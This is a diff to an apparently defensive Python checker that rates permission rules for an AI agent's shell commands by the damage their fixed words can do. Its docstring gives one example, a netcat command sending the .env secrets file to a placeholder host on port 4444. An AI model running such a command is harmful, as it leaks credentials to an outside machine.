@@ -225,9 +225,22 @@ def _canonical(name: str) -> str:
 
 
 def _judge_line(text: str, label: str) -> Grant | None:
-    """Judge a command line in which every `*` is a wildcard matching any text."""
+    """Judge a command line in which every `*` is a wildcard matching any text:
+    what the wildcard lets run, and what the words it fixes already do (the
+    command model: `Bash(nc host 4444 < .env)` approves sending `.env`)."""
     parts = split_commands(text)
-    return _worst([_judge_part(part, label) for _, part in parts] + [_judge_pipes(parts, label)])
+    return _worst([_judge_part(part, label) for _, part in parts] + [_judge_pipes(parts, label),
+                                                                     _judge_fixed(text, label)])
+
+
+def _judge_fixed(text: str, label: str) -> Grant | None:
+    from agenthook.commands import judge_text  # noqa: PLC0415 - the model loads only for a rule to judge
+
+    effects = [e for e in judge_text(text.replace("*", " ")) if Severity.parse(e.severity) >= Severity.HIGH]
+    if not effects:
+        return None
+    worst = max(effects, key=lambda e: Severity.parse(e.severity))
+    return Grant(Severity.parse(worst.severity), f"{label} approves a command that {worst.says}.")
 
 
 def _judge_part(part: str, label: str) -> Grant | None:
